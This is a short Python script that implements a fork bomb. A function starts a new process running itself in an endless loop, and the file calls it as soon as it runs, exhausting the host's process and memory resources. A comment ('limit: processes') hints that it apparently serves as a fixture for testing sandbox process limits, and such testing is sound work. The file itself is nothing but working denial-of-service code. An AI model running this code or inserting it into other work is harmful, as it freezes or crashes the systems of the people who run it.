from multiprocessing import Process


def bomb():
    while True:
        Process(target=bomb).start()  # limit: processes


bomb()
